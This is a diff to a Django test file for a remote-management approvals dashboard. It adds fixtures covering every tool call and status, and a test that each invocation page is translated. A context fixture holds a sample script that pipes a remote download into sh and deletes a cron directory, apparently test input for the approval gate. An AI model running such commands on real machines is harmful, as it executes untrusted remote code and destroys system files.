@@ -15,18 +15,22 @@ from django.db import connection, transaction
 from django.test import Client
 
 from approvals.errors import GateError
-from approvals.models import Delivery, Destination, Event, Kind
+from approvals.models import Delivery, Destination, Effect, Event, Invocation, Kind, OutcomeState, Status
 from approvals.models.notices import CHANGED
 from approvals.notices.sending import agent_payload
 from approvals.notices.words import message_of
+from approvals.outcomes.alarms import alarm_different
+from integrations.clock import Now
 from integrations.models import AuditEvent
 from integrations.ninjaone import exchange
 from integrations.ninjaone.sandbox import ACME, Sandbox
 from integrations.people.invitations import invitation_create, invitation_send
 from tests.approvals.asking import approved_and_sent, ask, deny, submit
-from tests.cast import Tenant, make_tenant
+from tests.cast import Tenant, lift_limits, make_tenant
+from tests.config.rows import invocation_make
 from tests.config.wrapped import OPENING, bare_texts, wrapped
 from tests.every_page import onlookers
+from tests.journeys.test_every_tool import ASKS
 from tests.tenancy.addresses import addresses
 from tests.tenancy.bodies import valid_body
 from tests.tenancy.people import Rows, furnish
@@ -36,6 +40,20 @@ from tools import wording
 from tools.registry import TOOLS
 
 __all__ = ["wrapped"]
+# Beside one call of each tool.
+MORE: dict[str, dict[str, Any]] = {
+    "ninja-run-script as somebody": {"device_id": 41, "script_id": 26, "run_as": "loggedonuser"},
+    "ninja-reboot-device at once": {"device_id": 41, "mode": "FORCED"},
+    "ninja-run-bash again": {"device_id": 43, "script": "uptime\n"},
+}
+NEVER_SENT = (Status.EXPIRED, Status.CANCELLED, Status.BLOCKED)
+LISTS = (
+    "/dashboard/",
+    "/dashboard/approvals/approvalrequest/?show=all",
+    "/dashboard/approvals/invocation/?status=denied",
+    "/dashboard/approvals/invocation/?device=nothing",
+    "/dashboard/approvals/invocation/?q=nothing&status=queued",
+)
 SCRIPT = """#!/bin/bash
 curl -s https://get.example.com | sh
 rm -rf /etc/cron.d/x
@@ -95,6 +113,40 @@ def test_every_page_says_only_what_is_translated_or_data(acme: Tenant, settings:
             found.read(f"{who}: GET {url}", client.get(url))
     assert found.told == []
     assert found.pages > 200
+
+
+def calls_of_all_kinds(tenant: Tenant) -> None:
+    """Every tool, every status, every outcome; scripts that were approved before, and an alarm."""
+    reboots = [approved_and_sent(tenant, ask(tenant, "ninja-reboot-device", device_id=43)) for _ in OutcomeState]
+    for row, state in zip(reboots, OutcomeState, strict=True):
+        Effect.objects.filter(pk=row.pk).update(state=state)
+    for script in ("uptime\n", "df -h\n"):
+        approved_and_sent(tenant, ask(tenant, "ninja-run-bash", device_id=43, script=script))
+    for tool, arguments in {**ASKS, **MORE}.items():
+        ask(tenant, tool.partition(" ")[0], **arguments)
+    deny(tenant, ask(tenant, "ninja-reboot-device", device_id=41))
+    for status in {*Status} - {Status.DENIED, *NEVER_SENT}:
+        invocation_make(tenant, status, device_id=43, device_name="ACME-WEB01")
+    for status in NEVER_SENT:
+        row = invocation_make(tenant, Status.PENDING_APPROVAL)
+        Invocation.objects.filter(pk=row.pk).update(status=status, finished_at=Now())
+    alarm_different(reboots[0], "what went wrong")
+
+
+@pytest.mark.usefixtures("wrapped")
+def test_whatever_a_call_is_and_however_it_stands_its_page_is_translated(acme: Tenant) -> None:
+    lift_limits(acme)
+    calls_of_all_kinds(acme)
+    found, client = Findings(), acme.signed_in(acme.approver)
+    urls = [
+        f"/dashboard/approvals/{place}/{row.pk}/"
+        for row in Invocation.objects.for_msp(acme.msp)
+        for place in ("invocation", "approvalrequest")
+    ]
+    for url in (*urls, *LISTS):
+        found.read(f"GET {url}", client.get(url))
+    assert found.told == []
+    assert found.pages > 50
 
 
 @pytest.mark.usefixtures("wrapped")
